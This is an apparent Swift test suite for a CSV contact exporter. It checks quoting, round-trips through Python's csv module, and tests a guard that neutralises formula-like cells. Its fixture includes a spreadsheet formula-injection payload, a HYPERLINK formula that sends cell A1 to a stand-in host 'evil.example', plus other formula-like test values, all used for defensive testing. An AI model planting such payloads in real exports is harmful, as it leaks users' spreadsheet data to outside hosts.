import Foundation
import RosterCore
import RosterFormats
import RosterTestSupport
import Testing

/// A stand-in for the YAML renderer: keys and values joined visibly, enough to place the cell.
private func stubYAML(_ fields: NestedFields) -> String {
  "{"
    + fields.entries.map { entry -> String in
      switch entry.value {
      case .string(let value): "\(entry.key): \(value)"
      case .object(let child): "\(entry.key): \(stubYAML(child))"
      }
    }.joined(separator: ", ") + "}"
}

@Suite("CSV contact writer")
struct CSVContactWriterTests {
  static let hostile = [
    "plain", "with, comma", "with \"quotes\"", "line\nbreak", "cr\rreturn", " leading space", "trailing ",
    "=1+2", "+441234", "00123", "é日本😀", "", ";semi;",
  ]

  @Test func cellsReadBackIdenticallyWithPythonCSV() throws {
    let text = try captured { output in
      try CSVContactWriter.writeRecord(Self.hostile, to: output)
      try CSVContactWriter.writeRecord(["second", "row"], to: output)
    }
    let script = """
      import csv, json, sys
      print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))
      """
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let file = directory.appendingPathComponent("cells.csv")
    try Data(text.utf8).write(to: file)
    let result = try TestSupport.python(script, [file.path])
    #expect(result.status == 0, "\(result.stderrText)")
    let rows = try JSONDecoder().decode([[String]].self, from: result.stdout)
    #expect(rows == [Self.hostile, ["second", "row"]])
    #expect(text.hasSuffix("second,row\r\n"))
  }

  @Test func fixedHeaderAndCellsForAGroupMember() throws {
    var contact = Contact()
    contact.id = "id-1"
    contact.name = "Ann"
    contact.email = "ann@example.com"
    contact.phone = "+442079460958"
    contact.phoneExtension = "12"
    contact.address.set("1 Main St", at: ["address_line1"])
    contact.address.set("London", at: ["city"])
    contact.address.set("B", at: ["wing", "block"])
    contact.groups = [
      GroupReference(name: "Team; A", id: "g1", isPrimary: true), GroupReference(name: "B", id: "g2"),
    ]
    contact.metadata.set("yes", at: ["csv_import"])
    let text = try captured { output in
      var writer = CSVContactWriter(output: output, yaml: stubYAML)
      try writer.write(contact)
      try writer.finish()
    }
    let lines = text.components(separatedBy: "\r\n")
    #expect(
      lines[0]
        == "id,fingerprint,type,name,first_name,last_name,email,phone,phone_extension,address.address_line1,address.address_line2,address.city,address.state,address.postcode,address.country,address.organization_name,address_extra,groups,primary_groups,metadata,merge_history"
    )
    #expect(
      lines[1]
        == "id-1,,person,Ann,,,ann@example.com,+442079460958,12,1 Main St,,London,,,,,{wing: {block: B}},\"\"\"Team; A\"\";B\",\"\"\"Team; A\"\"\",{csv_import: yes},"
    )
  }

  /// A contact with a formula-like value in every kind of column, and a validated phone.
  static func formulaLike() -> Contact {
    var contact = Contact()
    contact.id = "=id"
    contact.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    contact.firstName = "+1 (555) 010-9999"
    contact.lastName = "-x"
    contact.email = "@SUM(1)"
    contact.phone = "+442079460958"
    contact.phoneExtension = "12"
    contact.address.set("\tTab", at: ["address_line1"])
    contact.address.set("\rCR", at: ["city"])
    contact.address.set("=wing", at: ["wing"])
    contact.groups = [GroupReference(name: "-team", id: "g1", isPrimary: true)]
    contact.metadata.set("=1+2", at: ["crm"])
    contact.metadata.set("+x", at: ["other"])
    return contact
  }

  /// `formulaLike()` written with `formulaGuard` and the `crm` metadata path flattened, as Python's
  /// csv module reads it back; and the writer's count of guarded cells.
  private func writeFormulaLike(_ formulaGuard: FormulaGuard) throws -> (rows: [[String]], guarded: Int) {
    var guarded = 0
    let text = try captured { output in
      var writer = CSVContactWriter(
        output: output, layout: SpreadsheetLayout(metadataColumns: [["crm"]]), formulaGuard: formulaGuard,
        yaml: stubYAML)
      try writer.write(Self.formulaLike())
      try writer.finish()
      guarded = writer.guardedCells
    }
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let file = directory.appendingPathComponent("guarded.csv")
    try Data(text.utf8).write(to: file)
    let script = """
      import csv, json, sys
      print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))
      """
    let result = try TestSupport.python(script, [file.path])
    #expect(result.status == 0, "\(result.stderrText)")
    return (try JSONDecoder().decode([[String]].self, from: result.stdout), guarded)
  }

  @Test func theFormulaGuardPrefixesEveryFormulaLikeCellButTheValidatedPhone() throws {
    let (rows, guarded) = try writeFormulaLike(.on)
    #expect(rows.count == 2)
    let header = rows[0]
    let cells = Dictionary(uniqueKeysWithValues: zip(header, rows.count > 1 ? rows[1] : []))
    #expect(cells["id"] == "'=id")
    #expect(cells["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
    #expect(cells["first_name"] == "'+1 (555) 010-9999")
    #expect(cells["last_name"] == "'-x")
    #expect(cells["email"] == "'@SUM(1)")
    #expect(cells["phone"] == "+442079460958")
    #expect(cells["phone_extension"] == "12")
    #expect(cells["address.address_line1"] == "'\tTab")
    #expect(cells["address.city"] == "'\rCR")
    #expect(cells["address_extra"] == "{wing: =wing}")
    #expect(cells["groups"] == "'-team")
    #expect(cells["primary_groups"] == "'-team")
    #expect(cells["metadata.crm"] == "'=1+2")
    #expect(cells["metadata"] == "{other: +x}")
    #expect(guarded == 10)
  }

  @Test func withTheFormulaGuardOffEveryCellIsWrittenAsItIs() throws {
    let (rows, guarded) = try writeFormulaLike(.off)
    #expect(rows.count == 2)
    let cells = Dictionary(uniqueKeysWithValues: zip(rows[0], rows.count > 1 ? rows[1] : []))
    #expect(cells["id"] == "=id")
    #expect(cells["name"] == "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
    #expect(cells["first_name"] == "+1 (555) 010-9999")
    #expect(cells["last_name"] == "-x")
    #expect(cells["email"] == "@SUM(1)")
    #expect(cells["address.address_line1"] == "\tTab")
    #expect(cells["address.city"] == "\rCR")
    #expect(cells["groups"] == "-team")
    #expect(cells["metadata.crm"] == "=1+2")
    #expect(guarded == 0)
  }

  @Test func onlyAnE164PhoneIsExemptAndTheRecordWriterNeverGuards() throws {
    #expect(FormulaGuard.isValidatedPhone("+442079460958"))
    for notE164 in ["+", "+44 20", "+1234567890123456", "+=1", "=1+2", "-1"] {
      #expect(!FormulaGuard.isValidatedPhone(notE164), "\(notE164)")
    }
    var contact = Contact()
    contact.name = "Ann"
    contact.phone = "+1+cmd"
    let text = try captured { output in
      var writer = CSVContactWriter(output: output, yaml: stubYAML)
      try writer.write(contact)
      try CSVContactWriter.writeRecord(["=raw", "-raw"], to: output)
    }
    let lines = text.components(separatedBy: "\r\n")
    #expect(lines.count == 4)
    #expect(lines[1].contains(",'+1+cmd,"))
    #expect(lines[2] == "=raw,-raw")
    for cell in ["=", "+", "-", "@", "\t", "\r"] { #expect(FormulaGuard.guarded(cell + "x") == "'" + cell + "x") }
    for cell in ["", "x=1", " =1", "'=1", "{a: b}", "0123"] { #expect(FormulaGuard.guarded(cell) == nil) }
  }

  @Test func anEmptyRunStillWritesTheHeader() throws {
    let text = try captured { output in
      var writer = CSVContactWriter(output: output, yaml: stubYAML)
      try writer.finish()
    }
    #expect(text == SpreadsheetLayout.headers.joined(separator: ",") + "\r\n")
  }

  @Test func everyHeaderMapsBackOntoItsField() throws {
    let map = try HeaderMap(headers: SpreadsheetLayout.headers)
    #expect(map.warnings.isEmpty, "\(map.warnings.map(\.message))")
    #expect(map.columns.allSatisfy { !$0.isUnknown })
  }
}
